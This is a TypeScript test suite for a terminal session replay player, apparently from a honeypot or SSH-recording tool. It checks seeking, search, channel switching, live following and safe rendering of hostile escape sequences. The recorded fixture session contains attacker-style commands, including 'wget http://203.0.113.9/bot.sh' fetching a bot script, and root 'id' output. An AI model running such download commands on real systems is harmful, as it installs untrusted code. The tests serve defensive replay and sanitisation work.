import assert from "node:assert/strict";
import { spawn, spawnSync } from "node:child_process";
import { once } from "node:events";
import { join } from "node:path";
import { test, type TestContext } from "node:test";
import { setTimeout as sleep } from "node:timers/promises";
import type { PlayOptions } from "../../gateway/replay/play-options.ts";
import { Conversation } from "../evidence/conversation.ts";
import { ownFolder } from "../recording/sample.ts";
import { hostile } from "./hostile.ts";
import { ENDED, longSession, STARTED, Writing, written } from "./long-session.ts";
import { Tmux } from "./tmux.ts";

const PROGRAM = join(import.meta.dirname, "play-program.ts");

function playing(t: TestContext, options: PlayOptions, columns = 80, rows = 20): Tmux {
  const command = `'${process.execPath}' '${PROGRAM}' '${JSON.stringify(options)}'; echo "exit $?"`;
  return new Tmux(t, columns, rows, command);
}

async function longPlaying(
  t: TestContext,
  options: Omit<PlayOptions, "session"> = {},
  rows = 20,
): Promise<Tmux> {
  const session = await written(longSession(), ownFolder(t));
  return playing(t, { session, ...options }, 80, rows);
}

test("keys: pause, jumps of 5 seconds, a minute and tenths, digits, start and end", async (t) => {
  const tmux = await longPlaying(t);
  await tmux.shows(/root@srv:~#[^]*playing/);
  tmux.keys("Space");
  await tmux.shows(/ 0:0\d\.\d \/ 1:40\.0 {2}paused {2}channel 1/);
  tmux.keys("5");
  // A tenth of what lies between the channel's first second and its last.
  await tmux.shows(/wget http:\/\/203\.0\.113\.9\/bot\.sh\nsaved bot\.sh[^]* 0:50\.5 /, /lowest/);
  tmux.keys("Right");
  await tmux.shows(/\nlowest\n[^]* 0:55\.5 /);
  tmux.keys("Left", "Left");
  await tmux.shows(/saved bot[^]* 0:45\.5 /, /lowest/);
  tmux.keys("Up");
  await tmux.shows(/secret word[^]*logout[^]* 1:40\.0 \/ 1:40\.0 {2}end/);
  tmux.keys("Down");
  await tmux.shows(/saved bot[^]* 0:40\.0 /, /secret/);
  tmux.keys("<");
  await tmux.shows(/uname -a\nLinux srv[^]* 0:30\.1 /, /wget/);
  tmux.keys("S-Right");
  await tmux.shows(/ 0:40\.0 /);
  tmux.keys("g");
  await tmux.shows(/ 0:01\.0 /, /Linux/);
  tmux.keys("G");
  await tmux.shows(/logout[^]* 1:40\.0 \/ 1:40\.0 {2}end/);
  tmux.keys("q");
  const left = await tmux.shows(/exit 0/);
  assert.ok(left.join("\n").includes("logout"), "what was seen last stays to be read");
});

test("a step goes to the next output, speed and help are told, and our row leaves the recorded screen alone", async (t) => {
  const tmux = await longPlaying(t, { from: "9.5" });
  tmux.keys("Space");
  const before = await tmux.shows(/~# uname -a\n[^]*paused/);
  tmux.keys(".");
  await tmux.shows(/Linux srv 6\.1\.0\nroot@srv:~#\n[^]* 0:10\.0 /);
  tmux.keys("+", "+");
  await tmux.shows(/ x4 /);
  tmux.keys("-");
  await tmux.shows(/ x2 /);
  tmux.keys("=");
  await tmux.shows(/paused {2}channel 1/, / x\d/);
  tmux.keys("?");
  await tmux.shows(/stop the clock, and let it run again/, /Linux/);
  tmux.keys("x");
  const after = await tmux.shows(/Linux srv 6\.1\.0/, /stop the clock/);
  tmux.keys("s");
  const without = await tmux.shows(/Linux/, /paused/);
  assert.deepEqual(without.slice(0, 14), after.slice(0, 14));
  assert.equal(before[0], without[0]);
  tmux.keys("s");
  await tmux.shows(/paused/);
});

test("what is searched is found in output and input, forward and back, through colours and in pieces", async (t) => {
  const tmux = await longPlaying(t);
  await tmux.shows(/playing/);
  tmux.keys("/", "s", "e", "c", "r", "x", "BSpace");
  await tmux.shows(/ \/secr_$/m);
  tmux.keys("e", "t", " ", "w", "o", "r", "d", " ", "i", "s", " ", "m", "i", "Enter");
  await tmux.shows(/the secret word is miel[^]* 1:10\.0 .*paused.*\/secret word is mi: in the output/);
  tmux.keys("n");
  await tmux.shows(/\/secret word is mi: none/);
  tmux.keys("g");
  await tmux.shows(/ 0:01\.0 /, /Linux/);
  tmux.keys("/", "b", "o", "t", ".", "s", "h", "Enter");
  // Typed letter by letter: the input has it before the echo.
  await tmux.shows(/~# wget http:\/\/203\.0\.113\.9\/bot\.s\n[^]*: in the input/);
  tmux.keys("n");
  await tmux.shows(/~# wget http:\/\/203\.0\.113\.9\/bot\.sh\n[^]*: in the output/, /saved/);
  tmux.keys("n");
  await tmux.shows(/saved bot\.sh[^]* 0:40\.0 .*: in the output/);
  tmux.keys("N");
  await tmux.shows(/bot\.sh\n[^]* 0:39\.0 .*: in the output/, /saved/);
  tmux.keys("/", "x");
  await tmux.shows(/\/x_/);
  tmux.keys("Escape");
  await tmux.shows(/bot/, /_/);
  tmux.keys("q");
  await tmux.shows(/exit 0/);
});

test("from command to command, and from channel to channel", async (t) => {
  const tmux = await longPlaying(t);
  await tmux.shows(/playing/);
  tmux.keys("Space", "]");
  await tmux.shows(/~# uname -a\n[^]* 0:10\.0 .*\$ uname -a/, /Linux/);
  tmux.keys("]");
  await tmux.shows(/bot\.sh\n[^]* 0:40\.0 .*\$ wget http:\/\/203\.0\.113\.9\/bot\.sh/, /saved/);
  tmux.keys("]");
  await tmux.shows(/cat notes\n[^]* 1:10\.0 .*\$ cat notes/, /secret/);
  tmux.keys("]");
  await tmux.shows(/next command: none/);
  tmux.keys("[");
  await tmux.shows(/ 0:40\.0 .*\$ wget/, /saved/);
  tmux.keys("c");
  await tmux.shows(/--- channel 2, exec: id/);
  tmux.keys(".");
  await tmux.shows(/uid=0\(root\)[^]* 1:20\.0 .*channel 2/);
  tmux.keys("C");
  // The clock stands still, so what the channel printed first waits for a step.
  await tmux.shows(/ 0:01\.0 .*paused {2}channel 1/, /uid=0|~#/);
  tmux.keys(".");
  await tmux.shows(/root@srv:~#\n[^]* 0:01\.0 .*paused {2}channel 1/);
  tmux.keys("q");
  // The channel's head stood under our own screen.
  await tmux.shows(/uid=0\(root\)\n--- channel 1, shell[^]*\nroot@srv:~#\nexit 0/);
});

test("--channel all plays each in turn, and --input shows what was typed", async (t) => {
  const tmux = await longPlaying(t, { channel: "all", speed: 1000, idleLimit: 1 }, 30);
  await tmux.shows(/--- channel 1, shell[^]*logout[^]*--- channel 2, exec: id[^]*uid=0\(root\)\nexit 0/);
  const typed = await longPlaying(t, { input: true, from: "02:16:17Z" });
  typed.keys("Space");
  await typed.shows(/ typed: .*uname -a\^Mwget http:\/\/203\.0\.113\.9\/bot\.sh\^M\n 0:40\.0/);
  typed.keys("i");
  await typed.shows(/ 0:40\.0/, /typed/);
});

test("a terminal that is smaller shows the part with the cursor, and follows when it is made larger", async (t) => {
  const session = await written(longSession(), ownFolder(t));
  const tmux = playing(t, { session, from: "56" }, 40, 8);
  tmux.keys("Space");
  await tmux.shows(/saved bot\.sh[^]* 0:5\d\.\d/, /lowest/);
  tmux.resize(80, 24);
  await tmux.shows(/saved bot\.sh[^]*\nlowest\n[^]* 0:5\d\.\d/);
});

test("without our row the recording has the terminal, and jumps are drawn anew", async (t) => {
  const tmux = await longPlaying(t, { status: false, resize: true });
  await tmux.shows(/root@srv:~#/);
  tmux.keys("5");
  await tmux.shows(
    /root@srv:~# uname -a\nLinux srv 6\.1\.0\nroot@srv:~# wget [^]*saved bot\.sh/,
    /channel 1/,
  );
  tmux.keys("2");
  await tmux.shows(/root@srv:~# uname -a\nLinux srv 6\.1\.0\n/, /wget/);
  tmux.keys("q");
  await tmux.shows(/Linux srv 6\.1\.0\nroot@srv:~# ?exit 0/);
});

test("a session that lives is followed: first what is there, then what comes, then its end", async (t) => {
  const talk = longSession();
  const half = talk.entries.findIndex(({ at }) => at > 45_000_000_000n);
  const writing = new Writing(talk, ownFolder(t));
  writing.write(talk.entries.slice(0, half));
  const tmux = playing(t, { session: writing.recording.path, follow: true });
  await tmux.shows(/saved bot\.sh[^]*live/, /lowest/);
  const next = talk.entries.findIndex(({ at }) => at > 75_000_000_000n);
  writing.write(talk.entries.slice(half, next));
  await tmux.shows(/the secret word is miel[^]*lowest[^]* 1:10\.\d .*live/);
  tmux.keys("2");
  await tmux.shows(/Linux[^]* 0:1\d\.\d .*playing/, /wget/);
  tmux.keys("F");
  await tmux.shows(/the secret word is miel[^]*live/);
  writing.write(talk.entries.slice(next));
  await writing.recording.close(ENDED);
  await tmux.shows(/logout[^]*\nexit 0/);
});

test("hostile output, names and commands reach the terminal only as what draws or as escapes", async (t) => {
  const talk = new Conversation("0a1b2c3d4e5f", STARTED).login();
  const shell = talk.after(1000).open();
  const sequences = hostile.map(({ sequence }) => `${sequence}\x1b\\`).join(" ");
  talk.shell(shell, 60, 14).gets(shell, Buffer.from(sequences, "latin1"));
  for (const { sequence } of hostile) talk.after(10).sends(shell, Buffer.from(`${sequence}\r`, "latin1"));
  const program = talk.after(1000).open();
  talk
    .exec(program, `x\x1b]0;title\x07\x1b[6n${sequences}`.slice(0, 300))
    .gets(program, Buffer.from(sequences, "latin1"));
  talk.exits(program, 0).after(5000).gets(shell, "the end").exits(shell, 0);
  const session = await written(talk, ownFolder(t));
  // Whatever the terminal answers would be typed into the player, and after it into cat.
  const play = `'${process.execPath}' '${PROGRAM}' '${JSON.stringify({ session, input: true })}'`;
  const tmux = new Tmux(t, 80, 20, `${play}; stty raw -echo; timeout 2 cat -v; echo; echo done`);
  await tmux.shows(/channel 1/);
  tmux.keys("Space", "]", "[", "G", "?", "x", "c");
  await tmux.shows(/--- channel 2, exec: x/);
  tmux.keys("q");
  const screen = await tmux.shows(/done/);
  assert.doesNotMatch(screen.slice(screen.findIndex((row) => row.startsWith("---"))).join("\n"), /\^\[|;1R/);
});

test("a pipe gets what happens in a session that lives as it happens, without a wait", async (t) => {
  const talk = longSession();
  const half = talk.entries.findIndex(({ at }) => at > 45_000_000_000n);
  const writing = new Writing(talk, ownFolder(t));
  writing.write(talk.entries.slice(0, half));
  const options = JSON.stringify({ session: writing.recording.path, follow: true, from: "0:39.5" });
  const child = spawn(process.execPath, [PROGRAM, options], { stdio: ["ignore", "pipe", "inherit"] });
  let got = "";
  child.stdout.on("data", (piece: Buffer) => (got += piece.toString()));
  while (!got.includes("saved")) await sleep(20);
  const started = performance.now();
  writing.write(talk.entries.slice(half));
  await writing.recording.close(ENDED);
  const [code] = (await once(child, "exit")) as [number];
  assert.equal(code, 0);
  assert.match(got, /saved[^]*lowest[^]*miel[^]*logout/);
  assert.ok(!got.includes("uname"), "what was before is not told");
  // It took a minute.
  assert.ok(performance.now() - started < 50_000);
});

test("many channels in turn leave nothing behind that would be warned of", async (t) => {
  const talk = new Conversation("0a1b2c3d4e5f", STARTED).login();
  for (let n = 0; n < 30; n += 1) {
    const program = talk.open();
    talk.exec(program, `echo ${n}`).gets(program, `${n}\n`).exits(program, 0);
  }
  const session = await written(talk, ownFolder(t));
  const { stdout, stderr } = spawnSync(process.execPath, [PROGRAM, JSON.stringify({ session })], {
    encoding: "utf8",
  });
  assert.equal(stderr, "");
  assert.match(stdout, /--- channel 30, exec: echo 29, exit 0, 3 bytes of output\n29\n$/);
  const tmux = playing(t, { session }, 60, 70);
  const screen = await tmux.shows(/--- channel 30, exec: echo 29, exit 0[^]*\n29\nexit 0/);
  assert.doesNotMatch(screen.join("\n"), /Warning/);
});
